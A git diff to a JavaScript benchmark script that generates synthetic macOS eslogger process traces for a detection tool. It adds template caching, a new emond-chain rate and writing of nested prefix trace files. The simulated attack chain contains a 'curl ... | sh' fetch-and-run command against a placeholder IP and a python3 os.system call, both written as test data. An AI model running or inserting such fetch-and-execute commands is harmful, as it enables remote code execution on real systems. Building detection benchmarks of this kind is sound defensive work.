@@ -81,7 +81,8 @@ function token(pid, pidversion, variant) {
   );
 }
 
-function processJson(p, variant) {
+function processTemplate(exe, variant) {
+  const p = { pid: '\u0001', pv: '\u0002', ppid: '\u0003', ppv: '\u0004', exe };
   return object(
     [
       ['audit_token', token(p.pid, p.pv, variant)],
@@ -103,6 +104,24 @@ function processJson(p, variant) {
     ],
     variant,
   );
+}
+
+/** Process objects differ per line only in four numbers: build each (program, order) once. */
+const templates = new Map();
+const MARKER = /[\u0001-\u0004]/g;
+
+function processJson(p, variant) {
+  const key = `${p.exe}\u0000${variant}`;
+  let template = templates.get(key);
+  if (template === undefined) {
+    const text = processTemplate(p.exe, variant);
+    template = { parts: text.split(MARKER), slots: [...text.matchAll(MARKER)].map((m) => m[0].charCodeAt(0)) };
+    templates.set(key, template);
+  }
+  const values = [undefined, p.pid, p.pv, p.ppid, p.ppv];
+  let out = template.parts[0];
+  for (let i = 0; i < template.slots.length; i++) out += values[template.slots[i]] + template.parts[i + 1];
+  return out;
 }
 
 const ENV = JSON.stringify([
@@ -180,6 +199,7 @@ class Writer {
     const forked = { pid: this.pid(), pv: this.pv++, ppid: emond.pid, ppv: emond.pv, exe: emond.exe };
     yield this.fork(emond, forked);
     const shell = { ...forked, pv: this.pv++, exe: '/bin/sh' };
+    this.alerts++; // emond → sh
     yield this.exec(forked, shell, ['sh', '-c', 'curl -s http://203.0.113.7/p.sh | sh'], '/');
     const grandchild = { pid: this.pid(), pv: this.pv++, ppid: shell.pid, ppv: shell.pv, exe: shell.exe };
     yield this.fork(shell, grandchild);
@@ -187,15 +207,16 @@ class Writer {
     yield this.exec(grandchild, curl, ['curl', '-s', 'http://203.0.113.7/p.sh'], '/');
     yield this.exit(curl, 0);
     const python = { ...shell, pv: this.pv++, exe: '/usr/bin/python3' };
+    this.alerts++; // python3 exec'd in place of sh: its parent is still emond
     yield this.exec(shell, python, ['python3', '-c', 'import os; os.system("id")'], '/');
     yield this.exit(python, 0);
-    this.alerts += ALERTS_PER_EMOND_CHAIN;
   }
 }
 
-/** Yields `events` lines; one emond chain (7 events) per `emondEvery` ordinary units. */
-export function* traceLines({ events, seed = 1, emondEvery = 20000 }) {
-  const writer = new Writer(random(seed));
+export const DEFAULT_EMOND_EVERY = 5000;
+
+/** Yields `events` lines; one emond chain (7 events) per `emondEvery` ordinary units (3 events each). */
+export function* traceLines({ events, seed = 1, emondEvery = DEFAULT_EMOND_EVERY, writer = new Writer(random(seed)) }) {
   let written = 0;
   let units = 0;
   while (written < events) {
@@ -205,33 +226,48 @@ export function* traceLines({ events, seed = 1, emondEvery = 20000 }) {
       if (++written >= events) break;
     }
   }
-  return { alerts: writer.alerts, chains: writer.chains };
 }
 
-/** Writes a trace file; returns its size, event count and the alerts it must raise. */
-export async function writeTrace(path, { events, seed = 1, emondEvery = 20000 }) {
-  const out = createWriteStream(path, { highWaterMark: 4 << 20 });
-  const lines = traceLines({ events, seed, emondEvery });
+/**
+ * Writes one trace and its leading parts: each output gets the first `events` lines of the same
+ * stream, so smaller inputs are true prefixes of the larger. Returns, per output, its size, event
+ * count and the alerts it must raise.
+ */
+export async function writeTraces(outputs, { seed = 1, emondEvery = DEFAULT_EMOND_EVERY } = {}) {
+  const total = Math.max(...outputs.map((o) => o.events));
+  const files = outputs.map((o) => ({ ...o, stream: createWriteStream(o.path, { highWaterMark: 4 << 20 }), bytes: 0, expectedAlerts: 0 }));
+  const writer = new Writer(random(seed));
+  const lines = traceLines({ events: total, emondEvery, writer });
   let batch = '';
-  let bytes = 0;
-  let result;
-  for (;;) {
-    const next = lines.next();
-    if (next.done) {
-      result = next.value;
-      break;
+  let written = 0;
+  let batchStart = 0;
+  const flush = async () => {
+    const bytes = Buffer.byteLength(batch);
+    // Batches are cut at every prefix boundary, so a batch belongs to a file entirely or not at all.
+    for (const file of files) {
+      if (batchStart < file.events) {
+        file.bytes += bytes;
+        if (!file.stream.write(batch)) await once(file.stream, 'drain');
+      }
     }
-    batch += `${next.value}\n`;
-    if (batch.length > 1 << 20) {
-      bytes += Buffer.byteLength(batch);
-      if (!out.write(batch)) await once(out, 'drain');
-      batch = '';
+    batch = '';
+    batchStart = written;
+  };
+  const boundaries = new Set(files.map((f) => f.events));
+  for (const line of lines) {
+    batch += `${line}\n`;
+    written++;
+    if (boundaries.has(written)) {
+      for (const file of files) if (file.events === written) file.expectedAlerts = writer.alerts;
     }
+    if (batch.length > 1 << 20 || boundaries.has(written)) await flush();
   }
-  bytes += Buffer.byteLength(batch);
-  out.end(batch);
-  await once(out, 'finish');
-  return { path, events, bytes, expectedAlerts: result.alerts, emondChains: result.chains };
+  await flush();
+  await Promise.all(files.map(async (file) => {
+    file.stream.end();
+    await once(file.stream, 'finish');
+  }));
+  return files.map(({ path, events, bytes, expectedAlerts }) => ({ path, events, bytes, expectedAlerts }));
 }
 
 if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
@@ -240,6 +276,6 @@ if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
     console.error('usage: node scripts/bench/eslogger-trace.mjs OUT.ndjson EVENTS');
     process.exit(2);
   }
-  const info = await writeTrace(out, { events: Number(count) });
+  const [info] = await writeTraces([{ path: out, events: Number(count) }]);
   console.log(JSON.stringify(info));
 }
